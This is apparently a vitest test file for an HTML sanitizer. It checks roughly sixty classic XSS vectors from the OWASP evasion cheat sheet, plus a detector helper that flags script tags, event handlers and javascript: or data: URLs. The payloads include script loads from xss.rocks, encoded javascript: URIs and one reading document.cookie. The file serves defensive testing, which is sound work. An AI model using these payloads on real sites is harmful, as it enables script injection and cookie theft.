import { describe, expect, it } from 'vitest';
import { htmlBodyPolicyCases } from '@sitenet/api-client/html-body-policy/cases';
import { sanitizeHtml } from './sanitize';

/** 60 classic XSS vectors (OWASP filter-evasion cheat sheet and friends). */
const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<BODY ONLOAD=alert(\'XSS\')>',
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<BR SIZE="&{alert(\'XSS\')}">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JAVASCRIPT:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java&#0000115;cript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<base href="javascript:alert(1)//">',
  '<img src="x" srcset="javascript:alert(1)">',
  '<p onclick="alert(1)" onmouseover="alert(2)">text</p>',
  '<div data-x="1" style="position:fixed;inset:0">overlay</div>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
];

function hostile(html: string): string[] {
  const host = document.createElement('div');
  host.innerHTML = html;
  const problems: string[] = [];
  for (const element of host.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (['script', 'style', 'iframe', 'frame', 'frameset', 'object', 'embed', 'link', 'meta', 'base', 'form', 'svg', 'math'].includes(tag)) {
      problems.push(`<${tag}>`);
    }
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      // Browsers ignore control characters inside URL schemes, so the check must too.
      // eslint-disable-next-line no-control-regex
      const value = attribute.value.replace(/[\s\u0000-\u001f]/g, '').toLowerCase();
      if (name.startsWith('on')) problems.push(`${tag}[${name}]`);
      if (name === 'style' || name === 'formaction' || name === 'srcset') problems.push(`${tag}[${name}]`);
      if (/^(javascript|vbscript|data):/.test(value)) problems.push(`${tag}[${name}=${value}]`);
    }
  }
  return problems;
}

describe('sanitizeHtml', () => {
  it('has at least 50 payloads', () => {
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(50);
  });

  it.each(PAYLOADS.map((payload, index) => [index + 1, payload]))('neutralises payload %i', (_n, payload) => {
    const clean = sanitizeHtml(String(payload));
    expect(hostile(clean)).toEqual([]);
    expect(clean.toLowerCase()).not.toContain('<script');
  });

  it('keeps ordinary article markup', () => {
    const html =
      '<h2>Title</h2><p>Text with <strong>bold</strong>, <em>italics</em> and <a href="https://example.com">a link</a>.</p>' +
      '<ul><li>One</li></ul><blockquote>Quote</blockquote><img src="/a.jpg" alt="A">';
    const clean = sanitizeHtml(html);
    expect(clean).toContain('<h2>Title</h2>');
    expect(clean).toContain('<a href="https://example.com">a link</a>');
    expect(clean).toContain('<img src="/a.jpg" alt="A">');
    expect(clean).toContain('<blockquote>Quote</blockquote>');
  });

  it('adds rel="noopener noreferrer" to links opening a new tab', () => {
    expect(sanitizeHtml('<a href="https://example.com" target="_blank">x</a>')).toContain('rel="noopener noreferrer"');
  });

  // The API's sanitizer runs the same cases on write: both apply the one body policy.
  it.each(htmlBodyPolicyCases)('applies the shared body policy: $name', ({ html, sanitized }) => {
    expect(sanitizeHtml(html)).toBe(sanitized);
  });
});
